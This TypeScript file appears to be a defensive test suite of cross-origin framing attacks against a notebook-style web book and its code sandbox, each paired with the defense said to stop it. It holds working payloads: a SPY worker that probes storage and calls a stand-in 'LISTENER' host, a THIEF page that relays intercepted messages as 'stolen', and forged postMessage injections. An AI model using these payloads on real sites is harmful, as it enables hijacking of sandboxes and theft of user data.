/** Pages of strangers that frame parts of the book, or open them. */
import type { Attack, AttackClass } from '../attack.ts';

const OPAQUE = 'The frame’s script does nothing unless its own origin is opaque.';
const KNOWN = 'The frame starts the kernel that it knows, and no other text.';
const PARENT =
  'The frame and the page take messages only from the window and the origin that they expect.';
const AGAIN = 'A frame that no longer answers is replaced by a new one.';

/** A worker that tells what it can reach in its origin. */
const SPY = `onmessage = ({ data, ports: [port] }) => {
  const tell = (what) => { port?.postMessage(what); postMessage(what); };
  tell('it runs a stranger’s code, in the origin ' + self.origin);
  indexedDB.open('x').onsuccess = () => tell('it opens a database');
  self.caches?.open('x').then(() => tell('it opens a cache'), () => {});
  navigator.storage?.getDirectory().then(() => tell('it opens files'), () => {});
  fetch('http://LISTENER/').catch(() => {});
};
onmessage({ ports: [] });`;

/** Hands a text as the kernel, in the forms that a frame might take, to the window that \`find\` gives. */
const hand = (find: string) => `
const spy = ${JSON.stringify(SPY)};
const heard = ({ data }) => { if (String(data).startsWith('it ')) breach(data); };
addEventListener('message', heard);
const hand = () => {
  const target = ${find};
  for (const message of [{ kernel: spy }, { kernel: spy, start: true }, { start: spy }, spy]) {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = heard;
    target?.postMessage(message, '*', [port2]);
  }
};
setInterval(hand, 200);`;

const framed = (name: string, stoppedBy: string, frame: string): Attack => ({
  name,
  stoppedBy,
  page: `${frame}<script>${hand('frames[0]')}</script>`,
});

const onClick = (act: string) =>
  `<button id="go">Go</button><script>document.getElementById('go').onclick = () => { ${act} };</script>`;

/** Frames a cell alone, and does something to the sandbox within it. */
const within = (name: string, act: string): Attack => ({
  name,
  stoppedBy: AGAIN,
  page: `<iframe id="cell" src="SITE/embed/quadratic/scale/" width="900" height="600"></iframe>
<script>
addEventListener('message', ({ data }) => { if (data?.stolen) breach(data.stolen); });
window.harm = () => { ${act} };
</script>`,
  runsIn: '#cell',
});

/** A page in the sandbox's place, which takes what the book sends it. */
const THIEF = `data:text/html,<script>
parent.postMessage('frame', '*');
onmessage = ({ data, ports: [port] }) => {
  top.postMessage({ stolen: JSON.stringify(data) }, '*');
  if (!port) return;
  port.onmessage = ({ data }) => top.postMessage({ stolen: JSON.stringify(data) }, '*');
  port.postMessage('ready');
};
</script>`;

export const frames: AttackClass = {
  name: 'frames',
  about: 'A page of another origin puts the book, or its sandbox, into itself.',
  attacks: [
    framed('the sandbox in a plain frame', OPAQUE, '<iframe src="SITE/sandbox/"></iframe>'),
    framed(
      'the sandbox with scripts and its origin',
      OPAQUE,
      '<iframe src="SITE/sandbox/" sandbox="allow-scripts allow-same-origin"></iframe>',
    ),
    framed(
      'the sandbox as the page frames it',
      KNOWN,
      '<iframe src="SITE/sandbox/" sandbox="allow-scripts"></iframe>',
    ),
    framed(
      'the sandbox with all rights',
      OPAQUE,
      '<iframe src="SITE/sandbox/" allow="*; camera *; microphone *; usb *" allowfullscreen credentialless></iframe>',
    ),
    framed(
      'the sandbox in an object',
      OPAQUE,
      '<object data="SITE/sandbox/" type="text/html" width="9" height="9"></object>',
    ),
    framed(
      'the sandbox in a frame that was empty',
      OPAQUE,
      `<iframe></iframe><script>setTimeout(() => { frames[0].location = 'SITE/sandbox/'; }, 50)</script>`,
    ),
    framed(
      'the sandbox with another page’s address',
      OPAQUE,
      '<iframe src="SITE/sandbox/index.html?x#y"></iframe>',
    ),
    {
      name: 'the sandbox as a window of its own',
      stoppedBy: OPAQUE,
      page: `${onClick(`window.opened = open('SITE/sandbox/')`)}<script>${hand('window.opened')}</script>`,
    },
    {
      name: 'the book as a window of its own',
      stoppedBy: PARENT,
      page: `${onClick(`window.opened = open('SITE/the-formula/')`)}<script>${hand('window.opened')}</script>`,
    },
    framed('the book in a frame', PARENT, '<iframe src="SITE/the-formula/"></iframe>'),
    framed('a cell in a frame', PARENT, '<iframe src="SITE/embed/quadratic/scale/"></iframe>'),
    framed(
      'the kernel as a page',
      'The kernel is a script, and no page runs it.',
      '<iframe src="SITE/notebook/kernel.js"></iframe>',
    ),
    {
      name: 'the kernel as a script',
      stoppedBy:
        'The kernel does nothing until a port is handed to its worker, and it has no secret.',
      page: `<script src="SITE/notebook/kernel.js"></script>`,
    },
    {
      name: 'forged messages to a framed cell',
      stoppedBy: PARENT,
      page: `<iframe id="cell" src="SITE/embed/quadratic/scale/" width="900" height="600"></iframe><script>
window.harm = () => {
  const { port2 } = new MessageChannel();
  for (const message of ['frame', { crashed: '<b>x</b>' }, 'ready', 'done', { kind: 'start', module: 'quadratic/scale' }, null]) frames[0].postMessage(message, '*');
  frames[0].postMessage('frame', '*', [port2]);
};</script>`,
      runsIn: '#cell',
    },
    within(
      'the sandbox sent to the stranger’s page',
      `frames[0].frames[0].location = location.origin + '/elsewhere'`,
    ),
    within('the sandbox sent to an empty page', `frames[0].frames[0].location = 'about:blank'`),
    within(
      'the sandbox sent to a page that answers',
      `frames[0].frames[0].location = ${JSON.stringify(THIEF).replaceAll('<', '\\u003c')}`,
    ),
    within(
      'the sandbox sent to a host that does not answer',
      `frames[0].frames[0].location = 'http://127.0.0.1:59999/'`,
    ),
    within('the sandbox loaded anew', `frames[0].frames[0].location = 'SITE/sandbox/?again'`),
    within(
      'the sandbox sent away each 50 ms for a while',
      `let times = 0; const again = setInterval(() => { if (++times > 20) clearInterval(again); else try { frames[0].frames[0].location = 'about:blank?' + times; } catch {} }, 50)`,
    ),
  ],
};
